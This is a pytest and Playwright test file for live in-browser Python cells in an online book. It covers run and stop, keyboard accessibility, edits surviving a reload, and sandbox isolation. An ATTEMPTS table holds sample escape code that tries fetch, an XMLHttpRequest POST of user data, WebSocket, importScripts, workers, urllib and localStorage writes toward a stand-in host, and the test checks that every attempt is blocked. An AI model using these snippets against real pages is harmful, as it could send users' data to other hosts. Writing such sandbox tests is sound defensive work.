"""Live cells in the page's own Python: what a run shows, and what pasted code can reach.

What the cells of all chapters give is tested with this machine's Python (tests/live).
"""

from __future__ import annotations

import textwrap
from types import SimpleNamespace

import pytest

from book.browser import FLAGS
from tests.site.live_cells import (
    FORMULA,
    PATIENCE,
    TABLE,
    Live,
    look,
    needs_python,
)
from tests.site.reader import make_first_move

pytestmark = needs_python


@pytest.fixture
def here(open_page, book_url):
    """The exercise of chapter 2 on its page."""
    visit = open_page(f"{book_url}/{FORMULA}")
    make_first_move(visit.page)
    return Live(visit, TABLE)


def test_run_shows_progress_and_stop_interrupts(here):
    here.start("lost = 1\nwhile True: pass")
    here.cell.get_by_role("progressbar", name="Loading Python").wait_for()
    here.state.filter(has_text="Running.").wait_for(timeout=PATIENCE)
    here.editor.focus()
    here.page.keyboard.type("#")
    assert "#" in here.code, "the page answers meanwhile"
    here.button("Stop").click()
    here.state.filter(has_text="Stopped.").wait_for()
    assert "NameError" in here.run("lost")
    assert here.run("np.arange(3)").strip() == "array([0, 1, 2])"
    assert not here.visit.take_problems()


def test_an_exercise_is_done_by_keyboard_and_every_state_is_accessible(here, axe, faults):
    """Into the editor by Tab, indent, run, read, out by Escape and Tab, reset."""
    page, code = here.page, here.code
    look(here, axe, faults, "at rest")
    page.locator("#check-yourself form.pe-question button").last.focus()
    for _ in range(8):
        page.keyboard.press("Tab")
        if here.editor.evaluate("(e) => e === document.activeElement"):
            break
    page.keyboard.press("Control+a")
    page.keyboard.type("def f(x):\nreturn x / 2\n")
    page.keyboard.press("Shift+Tab")
    page.keyboard.type("f(42)")
    page.keyboard.press("Shift+Enter")
    assert here.wait().strip() == "21.0"
    page.keyboard.press("Control+Home")
    page.keyboard.press("Tab")
    page.keyboard.press("Control+Enter")
    here.state.filter(has_text="An error in line 1.").wait_for()
    assert here.cell.locator(".pe-wrong-line").is_visible()
    look(here, axe, faults, "with an error")
    here.editor.focus()
    page.keyboard.press("Escape")
    for name in ("Run", "Stop", "Reset"):
        page.keyboard.press("Tab")
        assert here.button(name).evaluate("(e) => e === document.activeElement")
    page.keyboard.press("Enter")
    assert here.code == code
    assert "Not yet." in here.run()
    look(here, axe, faults, "with a reply")
    section = here.cell.locator("xpath=ancestor::section[1]")
    section.locator(".tag_hide-cell:has(.pe-put) summary").last.click()
    section.get_by_role("button", name="Put the solution into the editor").last.click()
    assert "Right." in here.run()
    assert not here.visit.take_problems()


def test_edits_survive_a_reload_and_do_not_run_by_themselves(here):
    page, code = here.page, here.code
    here.write("mine = 1")
    page.reload()
    make_first_move(page)
    here = Live(here.visit, TABLE)
    assert here.code == "mine = 1"
    assert here.output.inner_text() == "" and not page.workers
    here.button("Reset").click()
    here.state.filter(has_text="code is back.").wait_for()
    assert here.code == code
    stored = "Object.keys(localStorage).filter((key) => key.includes('live'))"
    assert page.evaluate(stored) == []
    assert not here.visit.take_problems()


# `HOST` is another host. Each attempt is Python as it could stand in a text to paste.
ATTEMPTS = {
    "fetch": 'js.fetch("HOST/fetch")',
    "XMLHttpRequest": """
        r = js.XMLHttpRequest.new()
        r.open("POST", "HOST/xhr", False)
        r.send("my table")
    """,
    "WebSocket": 'js.WebSocket.new("HOST/socket".replace("http", "ws"))',
    "importScripts": 'js.importScripts("HOST/script.js")',
    "a worker": """js.Worker.new("data:text/javascript,fetch('HOST/worker')")""",
    "urllib": 'import urllib.request; urllib.request.urlopen("HOST/urllib")',
    "storage": 'js.localStorage.setItem("kept", "rewritten")',
    "the origin": 'assert js.self.origin != "null"; js.fetch("HOST/origin")',
}


def code_of(attempt: str, host: str) -> str:
    body = textwrap.indent(textwrap.dedent(attempt.replace("HOST", host)).strip(), "    ")
    return f"import js\ntry:\n{body}\n    print('done')\nexcept BaseException:\n    print('no')"


def test_pasted_code_reaches_no_other_host_and_no_storage(
    browser, browser_path, book_url, other_host
):
    """In a browser without its own guard of this machine's addresses, which stand for any."""
    address, asked = other_host
    guard = "--disable-features=LocalNetworkAccessChecks"
    unguarded = browser.browser_type.launch(executable_path=browser_path, args=[*FLAGS, guard])
    page = unguarded.new_context().new_page()
    page.goto(f"{book_url}/{FORMULA}")
    page.evaluate("localStorage.kept = 'as it was'")
    page.mouse.move(100, 100)
    page.locator("html:not([data-near-only])").wait_for(state="attached")
    here = Live(SimpleNamespace(page=page), TABLE)
    for attempt in ATTEMPTS.values():
        assert here.run(code_of(attempt, address)).strip() in ("done", "no")
    page.wait_for_timeout(1000)  # for what is sent after a run
    assert asked == []
    assert page.evaluate("localStorage.kept") == "as it was"
    unguarded.close()
